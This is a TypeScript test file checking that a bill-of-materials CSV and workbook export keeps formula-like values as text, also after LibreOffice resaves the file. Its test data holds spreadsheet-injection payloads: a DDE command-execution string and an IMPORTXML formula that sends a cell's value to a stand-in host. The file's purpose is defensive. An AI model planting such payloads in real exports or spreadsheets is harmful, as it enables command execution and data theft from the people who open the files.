/** What a spreadsheet would take for a formula stays text in exports, also once another program has saved it. */
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { makeLine } from '#web/features/materials/boms/bom.fixture.ts'
import { writeCsv, writeRows } from '#web/features/materials/boms/exchange/write-bom.rules.ts'
import { readTableFile } from '#web/lib/tables/read-table-file.ts'
import { writeWorkbook } from '#web/lib/tables/write-workbook.ts'
import { hasLibreOffice, throughLibreOffice } from './office.fixture.ts'

const TEXTS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '=HYPERLINK("http://x.test","y")', "=cmd|' /C calc'!A0"],
  ...['=IMPORTXML("http://x.test/?"&A1,"//a")', '+491701234', '-', "'=kept", 'Plain, "quoted"'],
]
const LINES = TEXTS.map((item, at) => makeLine({ id: at + 1, item, description: item }))

const bytesOf = async (blob: Blob): Promise<Uint8Array> => new Uint8Array(await blob.arrayBuffer())
const workbook = async () => bytesOf(await writeWorkbook({ name: 'BOM', rows: writeRows(LINES), widths: [] }))
const text = async () => new TextEncoder().encode(writeCsv(LINES))

/** The items of a file, as the import reads them. */
const itemsOf = async (bytes: Uint8Array): Promise<unknown[]> => {
  const file = await readTableFile(new Uint8Array(bytes), 100)
  if ('problem' in file) throw new Error(file.problem)
  const [heads = [], ...rows] = file.sheets[0]?.rows ?? []
  const at = heads.indexOf('Item')
  return rows.map((row) => row[at])
}
const formulasIn = (bytes: Uint8Array): number =>
  Object.entries(unzipSync(bytes))
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .flatMap(([, part]) => [...strFromU8(part).matchAll(/<f\b[^>]*>([^<]*)</g)])
    // LibreOffice writes a tick so.
    .filter(([, formula = '']) => !/^(?:TRUE|FALSE)\(\)$/.test(formula)).length

// shows D-498
describe('what begins as a formula', () => {
  test('is text in a workbook and in text, and comes back as it was', async () => {
    expect(formulasIn(await workbook())).toBe(0)
    expect(await itemsOf(await workbook())).toEqual(TEXTS)
    expect(await itemsOf(await text())).toEqual(TEXTS)
    // A spreadsheet that reads the text finds no cell that begins as one.
    expect(writeCsv(LINES)).not.toMatch(/(?:^|,)"?[=+@]/m)
  })

  test.skipIf(!hasLibreOffice)(
    'is the same once LibreOffice has saved the workbook (needs LibreOffice)',
    async () => {
      const saved = await throughLibreOffice(await workbook())
      expect(formulasIn(saved)).toBe(0)
      expect(await itemsOf(saved)).toEqual(TEXTS)
    },
  )

  test.skipIf(!hasLibreOffice)(
    'is the same once LibreOffice has saved the text (needs LibreOffice)',
    async () => {
      const saved = await throughLibreOffice(await text(), { from: 'csv', to: 'csv' })
      expect(await itemsOf(saved)).toEqual(TEXTS)
      const asWorkbook = await throughLibreOffice(await text(), { from: 'csv' })
      expect(formulasIn(asWorkbook)).toBe(0)
    },
  )
})
